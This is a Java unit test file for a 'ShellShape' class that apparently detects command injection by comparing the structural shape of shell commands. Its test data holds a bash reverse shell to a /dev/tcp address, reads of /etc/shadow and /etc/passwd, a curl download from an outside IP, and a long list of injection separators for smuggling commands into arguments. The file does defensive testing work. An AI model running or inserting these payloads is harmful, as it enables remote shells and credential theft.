package salvor.baseline;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ShellShapeTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "ping -c 4 172.16.0.2~ping -c <number> <ip>",
        "ping -c 4 1.1.1.1;cat index.html~ping -c <number> <ip> ; cat <word>",
        "/app/export.sh csv~/app/export.sh <word>",
        "cat /etc/shadow~cat <sensitive>",
        "echo \"$(id)\"~echo $(id)",
        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1~bash -i >& <socket> 0 >& <number>",
        "A=1 cat x~A=<number> cat <word>",
        ">/tmp/x cat y~> <path> cat <word>",
        "cat $x ${y:-z}~cat <$x> <${y:-z}>",
        "python3 /app/x.py /tmp/y~python3 /app/x.py <path>",
        "perl -ne 'print 1' /tmp/y~perl -ne {print 1} <path>",
        "sh -c 'cat /x; id'~sh -c {cat <path> ; id}"
      })
  void tellsCommandsOperatorsAndTypes(String payload, String shape) {
    assertThat(ShellShape.of(payload)).isEqualTo(shape);
  }

  @Test
  void aCommandThatLooksLikeAShapeIsQuoted() {
    assertThat(ShellShape.of("\"/app/a <word>\" c")).isEqualTo("'/app/a <word>' <word>");
  }

  @Test
  void everyInjectionIntoAKnownCommandChangesItsShape() {
    List<String> joints =
        List.of(
            ";%s",
            "; %s",
            "|%s",
            " | %s",
            "||%s",
            "&&%s",
            " && %s",
            "&%s",
            "\n%s",
            "\r\n%s",
            "$(%s)",
            " $(%s)",
            "`%s`",
            " \"`%s`\"",
            "\"$(%s)\"",
            "';%s;'",
            "\";%s;\"",
            " ;(%s)",
            ";{ %s; }",
            " <(%s)",
            " >x;%s",
            "${IFS};%s",
            " #\n%s",
            "|&%s",
            ";${IFS}%s");
    List<String> commands =
        List.of(
            "id",
            "cat /etc/shadow",
            "cat${IFS}token",
            "curl http://203.0.113.66/x -o /tmp/x",
            "/bin/sh -i",
            "bash -c 'id'",
            "a=id;$a",
            "{cat,/etc/passwd}");
    for (String known : List.of("/app/export.sh csv", "ping -c 4 10.0.0.1")) {
      String shape = ShellShape.of(known);
      List<String> unseen = new ArrayList<>();
      for (String joint : joints) {
        for (String command : commands) {
          String injected = known + joint.formatted(command);
          if (ShellShape.of(injected).equals(shape)) {
            unseen.add(injected);
          }
        }
      }
      assertThat(joints.size() * commands.size()).isGreaterThan(100);
      assertThat(unseen).isEmpty();
    }
  }

  @Test
  void ordinaryArgumentsDoNotChangeTheShape() {
    assertThat(ShellShape.of("/app/export.sh json")).isEqualTo(ShellShape.of("/app/export.sh csv"));
    assertThat(ShellShape.of("ping  -c 9 10.9.9.9"))
        .isEqualTo(ShellShape.of("ping -c 4 172.16.0.2"));
  }

  @Property(tries = 300)
  void takesAnyText(@ForAll String text) {
    assertThat(ShellShape.of(text)).isNotNull();
    assertThat(ArgumentShape.of("/bin/sh", List.of("sh", "-c", text))).startsWith("-c {");
  }
}
